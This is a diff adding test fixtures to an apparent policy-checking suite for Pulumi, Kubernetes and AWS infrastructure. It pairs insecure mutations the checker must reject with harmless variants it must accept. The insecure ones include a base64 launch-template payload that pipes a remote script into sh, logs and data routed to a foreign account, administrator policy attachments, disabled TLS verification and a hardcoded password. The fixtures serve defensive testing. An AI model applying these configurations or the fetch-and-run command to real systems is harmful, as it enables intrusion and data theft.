 objOk(P, "cert-manager.io/v1", "Certificate", "one more certificate of a name", { metadata: { name: "grafana", namespace: "istio-ingress" }, spec: { dnsNames: ["grafana.models.internal"], duration: "2160h", renewBefore: "720h", issuerRef: { kind: "Issuer", name: "ingress-certificate-authority" }, privateKey: { algorithm: "ECDSA", size: 256, rotationPolicy: "Always" }, secretName: "grafana-certificate", usages: ["digital signature", "server auth"] } });
 objOk(P, "v1", "ConfigMap", "a dashboard of the team", { metadata: { name: "dashboard-queues", namespace: "monitoring", labels: { grafana_dashboard: "1" } }, data: { "queues.json": '{"title":"Queues","panels":[]}' } });
+
+// ---------------------------------------------------------------- second round: other spellings
+kind = "releases";
+gate.bad("error share is scaled by a hundredth", (i) => query(i, 0, (q) => `0.01 * (${q})`));
+gate.bad("slow share never has an answer", (i) => query(i, 1, (q) => `(${q}) unless on() vector(1)`));
+watch.bad("error share is averaged over six hours", (i) => query(i, 0, (q) => `avg_over_time((${q})[6h:1m])`));
+watch.bad("fails only above one, which a share never is", (i) => (i.spec.metrics[0].failureCondition = "len(result) > 0 && !isNaN(result[0]) && result[0] > 1"));
+watch.bad("watches only one of many pods", (i) => query(i, 1, (q) => q.replaceAll("sum(", "min(")));
+rollout.bad("first weight of fifty, as text", (i) => (canary(i).steps[3].setWeight = "50"));
+rollout.bad("the watch is gone", (i) => delete canary(i).analysis);
+rollout.bad("a deadline of a day for one that does not start", (i) => { i.spec.progressDeadlineSeconds = 86400; i.spec.progressDeadlineAbort = "false"; });
+gate.ok("class of answers as a pattern", (i) => query(i, 0, (q) => swap(q, 'response_code_class="5xx"', 'response_code_class=~"5xx"')));
+gate.ok("conditions in another order", (i) => { const m = i.spec.metrics[0]; m.successCondition = "len(result) > 0 && result[0] <= {{args.maxErrorShare}} && !isNaN(result[0])"; });
+gate.ok("sum by nothing", (i) => query(i, 1, (q) => q.replaceAll("sum(", "sum by () (")));
+gate.ok("windows in minutes", (i) => { for (const n of [0, 1]) query(i, n, (q) => q.replaceAll("[120s]", "[2m]")); });
+rollout.ok("weights as text", (i) => (canary(i).steps[7].setWeight = "20"));
+root.ok("a header for browsers", (i) => (i.spec.http[0].headers = { response: { set: { "strict-transport-security": "max-age=31536000" } } }));
+
+kind = "aws-policies";
+role(W, "fraud-reader").bad("a policy inside of the role", (i) => (i.inlinePolicies = [{ name: "more", policy: doc({ Effect: "Allow", Action: "s3:*", Resource: "*" }) }]));
+role(W, "risk-identity-role").bad("a managed policy inside of the role", (i) => (i.managedPolicyArns = ["arn:aws:iam::aws:policy/IAMFullAccess"]));
+addBad(F, "iam/policyAttachment:PolicyAttachment", "attaches administration to several at once", { name: "ops", roles: ["millrace-prod-runner-f2c896c"], policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" });
+addBad(F, "ssoadmin/managedPolicyAttachment:ManagedPolicyAttachment", "administration for a permission set", { instanceArn: "arn:aws:sso:::instance/ssoins-1", permissionSetArn: "arn:aws:sso:::permissionSet/ssoins-1/ps-1", managedPolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess" });
+addBad(F, "cloudwatch/logSubscriptionFilter:LogSubscriptionFilter", "logs go to a foreign account", { name: "copy", logGroup: "/aws/eks/millrace-prod/cluster", filterPattern: "", destinationArn: `arn:aws:logs:${REGION}:121212121212:destination:all` });
+addBad(F, "cloudwatch/eventTarget:EventTarget", "events go to a foreign account's bus", { rule: "data", arn: `arn:aws:events:${REGION}:121212121212:event-bus/default` });
+A(F, "s3/bucketNotification:BucketNotification", "data-events").bad("a foreign topic hears of objects", (i) => (i.topics = [{ topicArn: `arn:aws:sns:${REGION}:121212121212:t`, events: ["s3:ObjectCreated:*"] }]));
+addBad(F, "s3/inventory:Inventory", "the inventory of predictions goes to a foreign bucket", { bucket: PREDICTIONS, name: "all", includedObjectVersions: "All", schedule: { frequency: "Daily" }, destination: { bucket: { format: "CSV", bucketArn: "arn:aws:s3:::partner-inventory", accountId: "121212121212" } } });
+addBad(F, "cognito/identityPool:IdentityPool", "identities for whoever asks", { identityPoolName: "models", allowUnauthenticatedIdentities: true });
+addBad(F, "rolesanywhere/profile:Profile", "sessions of twelve hours for roles outside of AWS", { name: "laptops", enabled: true, durationSeconds: 43200, roleArns: [`arn:aws:iam::${ME}:role/millrace-prod-ci-deploy`] });
+A(F, "ec2/vpcEndpoint:VpcEndpoint", "network-s3").ok("accounts as lists", statement("OurBuckets", (s) => (s.Condition.StringEquals = { "aws:PrincipalAccount": [ME], "aws:ResourceAccount": [ME] })));
+role(F, "publishers-models").ok("audience as a list", statement("GitHubActions", (s) => (s.Condition.StringEquals["token.actions.githubusercontent.com:aud"] = ["sts.amazonaws.com"]), T));
+managed("publishers-models-policy").ok("a denial beside it", allowed({ Sid: "Never", Effect: "Deny", Action: ["s3:DeleteObject*", "s3:BypassGovernanceRetention"], Resource: ["*"] }));
+addOk(F, "kms/grant:Grant", "a grant for a role of ours", { keyId: DATA_KEY, granteePrincipal: `arn:aws:iam::${ME}:role/millrace-prod-tracking-role-fd106ca`, operations: ["Decrypt"] });
+
+kind = "networks";
+A(F, "route53/zone:Zone", "models-zone").bad("the private zone becomes a public one", (i) => delete i.vpcs);
+addOk(F, "vpc/securityGroupEgressRule:SecurityGroupEgressRule", "S3 by its list of prefixes", { securityGroupId: "sg-df12e08bd42af2f39", ipProtocol: "tcp", fromPort: 443, toPort: 443, prefixListId: "pl-c3aa4faa", description: "S3" });
+addOk(P, "vpc/securityGroupIngressRule:SecurityGroupIngressRule", "the runner reaches the balancer", ingressRule({ securityGroupId: BALANCER_SG, referencedSecurityGroupId: "sg-df12e08bd42af2f39", description: "HTTPS from the runner" }));
+K(P, "networking.istio.io/v1:Gateway", "gateway-listeners").ok("hosts by name", (i) => { for (const s of i.spec.servers) s.hosts = ["fraud.models.internal", "mlflow.models.internal", "grafana.models.internal"]; });
+
+kind = "pods";
+cron.bad("every minute, one beside the other", (i) => { i.spec.schedule = "* * * * *"; i.spec.concurrencyPolicy = "Allow"; });
+cron.bad("throws runs away at once", (i) => { const c = i.spec.jobTemplate.spec.template.spec.containers[0]; c.command = c.command.map((a: string) => (a.startsWith("--older-than") ? "--older-than=0d" : a)); });
+K(P, "core/v1:ConfigMap", "tracking-accounts").bad("everyone manages everything by default", (i) => { const k = Object.keys(i.data)[0] as string; i.data[k] = swap(i.data[k], "NO_PERMISSIONS", "MANAGE"); });
+K(P, "core/v1:Namespace", "tracking-namespace").bad("the tracking server's namespace is baseline only", (i) => (i.metadata.labels["pod-security.kubernetes.io/enforce"] = "baseline"));
+K(P, "policy/v1:PodDisruptionBudget", "tracking-budget").bad("nothing may ever be evicted", (i) => (i.spec.maxUnavailable = 0));
+K(W, "autoscaling/v2:HorizontalPodAutoscaler", "fraud-autoscaler").bad("five hundred replicas where 25 pods are allowed", (i) => (i.spec.maxReplicas = 500));
+rollout.bad("no limit of memory", (i) => delete i.spec.template.spec.containers[0].resources.limits);
+objBad(P, "v1", "Secret", "a password in the program", { metadata: { name: "smtp", namespace: "monitoring" }, stringData: { password: "Tr0ub4dor-and-3" } });
+rollout.ok("quantities in other units", (i) => (i.spec.template.spec.containers[0].resources = { requests: { cpu: 0.5, memory: "1024Mi" }, limits: { memory: "1073741824" } }));
+K(W, "policy/v1:PodDisruptionBudget", "fraud-budget").ok("two thirds at least", (i) => { delete i.spec.maxUnavailable; i.spec.minAvailable = "60%"; });
+K(W, "autoscaling/v2:HorizontalPodAutoscaler", "fraud-autoscaler").ok("grows by four at a time", (i) => (i.spec.behavior.scaleUp = { policies: [{ type: "Pods", value: 4, periodSeconds: 60 }], stabilizationWindowSeconds: 0 }));
+
+kind = "role-bindings";
+K(W, "rbac.authorization.k8s.io/v1:RoleBinding", "risk-train-binding").bad("all accounts of the namespace train", (i) => i.subjects.push(group("system:serviceaccounts:team-risk")));
+K(W, "rbac.authorization.k8s.io/v1:RoleBinding", "risk-operate-binding").bad("a group that no access entry has", (i) => (i.subjects = [group("everyone")]));
+
+kind = "alerts";
+modelRules.ok("the limit on the left", (i) => (alert(i, "ModelLatencyHigh").expr = `0.05 < ${alert(i, "ModelLatencyHigh").expr.replace(" > 0.05", "")}`));
+modelRules.ok("durations in seconds", (i) => (alert(i, "ModelLatencyHigh").for = "300s"));
+modelRules.bad("latency alert only at night", (i) => (alert(i, "ModelLatencyHigh").expr += " and on() hour() < 5"));
+modelRules.bad("the alert is renamed and has no runbook", (i) => { const a = alert(i, "ReleaseStuck"); a.alert = "Stuck"; delete a.annotations.runbook_url; });
+
+kind = "nodes";
+pool("cpu").ok("the architecture is said", (i) => i.spec.template.spec.requirements.push({ key: "kubernetes.io/arch", operator: "In", values: ["amd64"] }));
+A(F, "ec2/launchTemplate:LaunchTemplate", "access-host-template").bad("user data that fetch and run a script, in base64", (i) => (i.userData = Buffer.from("#!/bin/bash\nwget -qO- https://get.example.net/agent | sh\n").toString("base64")));
+pool("training").bad("a hundred times the limit, with a suffix", (i) => (i.spec.limits["nvidia.com/gpu"] = "6.4k"));
+
+kind = "cluster";
+ALL.push(on(W, "pulumi:providers:kubernetes", "cluster").bad(say("the provider does not verify the cluster"), (i) => { const k = JSON.parse(i.kubeconfig); k.clusters[0].cluster["insecure-skip-tls-verify"] = true; delete k.clusters[0].cluster["certificate-authority-data"]; i.kubeconfig = JSON.stringify(k); }));
+ALL.push(on(F, "pulumi:providers:aws", "aws").bad(say("the provider does not verify AWS"), (i) => (i.insecure = "true")));
+db.bad("the database is not protected by Pulumi", (_, o) => (o.protect = false));
+A(F, "s3/bucket:Bucket", "predictions").bad("the bucket of predictions is not protected by Pulumi", (_, o) => (o.protect = false));
 
 void without;
 void policy;
